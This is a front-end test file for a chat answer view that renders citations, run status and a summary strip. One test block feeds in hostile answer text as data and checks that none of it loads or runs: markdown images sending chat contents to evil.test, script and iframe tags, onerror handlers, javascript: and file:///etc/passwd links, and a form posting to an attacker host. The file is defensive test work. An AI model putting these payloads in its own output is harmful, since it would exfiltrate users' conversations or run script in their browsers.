// @vitest-environment happy-dom
import { cleanup, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { useState } from 'react';
import { afterEach, describe, expect, test, vi } from 'vitest';
import type { OnSelect } from '@/components/trace/selection';
import { answeredLog, contextLog, startedLog } from '@/components/trace/testing/fixture-run';
import { renderPage } from '@/components/trace/testing/render-page';
import { resolveCitations } from '@/lib/domain/citation-resolve';
import type { RunView } from '@/lib/domain/run-view';
import { Answer } from './answer';

afterEach(cleanup);

/** An answer whose highlighted record is held above it, as the chat does. */
function Held({
  view,
  onSelect,
  onHover,
}: {
  view: RunView;
  onSelect: OnSelect;
  onHover: (key: string | null) => void;
}) {
  const [highlighted, setHighlighted] = useState<string | null>(null);
  const hover = (record: string | null) => {
    onHover(record);
    setHighlighted(record);
  };
  return <Answer view={view} onSelect={onSelect} highlightedRecord={highlighted} onHoverRecord={hover} />;
}

function show(view: RunView) {
  const onSelect = vi.fn();
  const onHover = vi.fn();
  const { container } = renderPage(<Held view={view} onSelect={onSelect} onHover={onHover} />);
  return { container, onSelect, onHover };
}

function answered(text: string, method: 'model' | 'rule' | 'message' = 'model'): RunView {
  const view = answeredLog().view();
  const citations = resolveCitations(text, view.sections);
  return { ...view, answer: { method, text, citations, complete: true } };
}

describe('citations', () => {
  test('a resolved one opens its record in the context tab', async () => {
    const view = answeredLog().view();
    const { onSelect } = show(view);
    await userEvent.click(screen.getByRole('button', { name: 'Citation 1: open Entities 12, 한빛전자' }));
    expect(onSelect).toHaveBeenCalledWith({
      run: view.runId,
      tab: 'context',
      record: 'entities:entity-12',
      span: null,
    });
  });

  test('one that is not in the context is marked and opens nothing', async () => {
    const { onSelect, container } = show(answeredLog().view());
    const chip = screen.getByRole('button', { name: /Citation 2: Entities 99 is not in this run/ });
    expect(chip.textContent).toBe('2?');
    expect(chip.getAttribute('aria-disabled')).toBe('true');
    await userEvent.click(chip);
    expect(onSelect).not.toHaveBeenCalled();
    expect(container.querySelector('a')).toBeNull();
  });

  test('a hovered one names its record and lights its sentence', async () => {
    const { onHover, container } = show(answeredLog().view());
    await userEvent.hover(screen.getByRole('button', { name: /Citation 3: open Relationships 88/ }));
    expect(onHover).toHaveBeenLastCalledWith('relationships:relationship-88');
    expect(container.querySelector('[data-lit]')?.textContent).toContain('메모리 가격 하락');
    await userEvent.unhover(screen.getByRole('button', { name: /Citation 3/ }));
    expect(container.querySelector('[data-lit]')).toBeNull();
  });

  test('they stand in tables and lists, and never in code', () => {
    const { container } = show(
      answered(
        '| 회사 | 근거 |\n| --- | --- |\n| 한빛전자 | [Data: Entities (12)] |\n\n- 위험 [Data: Entities (4)]\n\n`[Data: Entities (12)]`',
      ),
    );
    expect(within(screen.getByRole('table')).getByRole('button', { name: /Citation 1/ })).toBeTruthy();
    expect(within(container.querySelector('ul')!).getByRole('button', { name: /Citation 2/ })).toBeTruthy();
    expect(container.querySelector('code')?.textContent).toBe('[Data: Entities (12)]');
  });
});

/** Elements that load, run or lead somewhere. */
const loading = 'img, script, iframe, style, link, a, form, input, object, embed, image';

describe('a hostile answer loads nothing and opens nothing', () => {
  test.each([
    ['an image', '![secret](https://evil.test/?q=chat)'],
    ['an image by reference', '![secret][x]\n\n[x]: https://evil.test/?q=chat'],
    ['an image with a data address', '![x](data:image/svg+xml;base64,AAAA)'],
    ['a raw image', '<img src="https://evil.test/?q=chat" onerror="alert(1)">'],
    ['a script', '<script>alert(1)</script>'],
    ['a frame', '<iframe src="https://evil.test"></iframe>'],
    ['a style', '<style>@import url(https://evil.test/x.css)</style>'],
    ['a link in a link', '[![x](https://evil.test/a.png)](https://evil.test)'],
    ['a script address', '[click](javascript:alert(1))'],
    ['a plain address', 'see https://evil.test/login'],
    ['a form', '<form action="https://evil.test"><input name="key"></form>'],
    ['a background', '<div style="background:url(https://evil.test/x)">x</div>'],
  ])('%s', (_, text) => {
    const { container } = show(answered(text));
    expect(container.querySelector(loading)).toBeNull();
    const attributes = Array.from(container.querySelectorAll('*'), (element) => Array.from(element.attributes)).flat();
    const written = attributes.filter(({ name }) => name !== 'aria-label').map(({ name, value }) => `${name}=${value}`);
    expect(written.filter((attribute) => /^on|evil\.test\/|javascript:|data:image/.test(attribute))).toEqual([]);
  });

  test('an image stands as its words', () => {
    show(answered('![매출 그래프](https://evil.test/x.png)'));
    expect(screen.getByText('Image, not loaded: 매출 그래프')).toBeTruthy();
  });

  test('a link shows where it leads, and opens only from its dialog', async () => {
    show(answered('[bank](https://bank.example@evil.test/x)'));
    await userEvent.click(screen.getByRole('button', { name: 'Show where this link leads: evil.test' }));
    const dialog = screen.getByRole('dialog', { name: 'Where this link leads' });
    expect(within(dialog).getByText('https://bank.example@evil.test/x')).toBeTruthy();
    const link = within(dialog).getByRole('link', { name: 'Open in a new tab' });
    expect(link.getAttribute('rel')).toContain('noopener');
  });

  test('an address that is no web address can only be copied', async () => {
    show(answered('[x](javascript:alert(1)) [file](file:///etc/passwd)'));
    for (const host of ['javascript:', 'file:']) {
      await userEvent.click(screen.getByRole('button', { name: `Show where this link leads: ${host}` }));
      expect(within(screen.getByRole('dialog')).queryByRole('link')).toBeNull();
      await userEvent.keyboard('{Escape}');
    }
  });
});

describe('how a run ended is said where the answer stands', () => {
  test('quoted sentences are not passed off as written ones', () => {
    show(answered('첫 문장.', 'rule'));
    expect(screen.getByText(/No model wrote this/)).toBeTruthy();
  });

  test('a stopped run keeps what was written', () => {
    show({ ...answered('여기까지'), status: 'stopped' });
    expect(screen.getByText('여기까지')).toBeTruthy();
    expect(screen.getByText('Stopped. What was written so far is kept.')).toBeTruthy();
  });

  test('a failed run alerts with its reason', () => {
    const failure = { code: 'model-failed', message: '모델이 답을 만들지 못했습니다.', detail: 'HTTP 500' };
    show({ ...contextLog().view(), status: 'failed', failure });
    const alert = screen.getByRole('alert');
    expect(alert.textContent).toContain('모델이 답을 만들지 못했습니다.');
    expect(alert.textContent).not.toContain('HTTP 500');
  });

  test('a warned run says what to doubt', () => {
    show({ ...answered('답'), status: 'warned' });
    expect(screen.getByText('The answer may not be fully supported by its sources.')).toBeTruthy();
  });
});

describe('the line over the answer', () => {
  test('each part opens the tab that explains it', async () => {
    const view = answeredLog().view();
    const { onSelect } = show(view);
    const strip = screen.getByRole('region', { name: 'This run in one line' });
    for (const [name, tab] of [
      ['2 keywords', 'route'],
      ['3 entities', 'context'],
      ['1.5k tokens', 'context'],
      ['2.32 s', 'trace'],
    ]) {
      await userEvent.click(within(strip).getByRole('button', { name }));
      expect(onSelect).toHaveBeenLastCalledWith({ run: view.runId, tab, span: null, record: null });
    }
  });

  test('a running one says which step is at work', () => {
    show(contextLog().at(40, { type: 'step-start', spanId: 'generate#1', step: 'generate', attempt: 1 }).view());
    expect(within(screen.getByRole('region', { name: /one line/ })).getByText('Writing the answer')).toBeTruthy();
    expect(screen.queryByRole('button', { name: /Copy/ })).toBeNull();
  });

  test('one that has only begun says so', () => {
    show(startedLog().view());
    expect(screen.getByText('Starting')).toBeTruthy();
  });
});
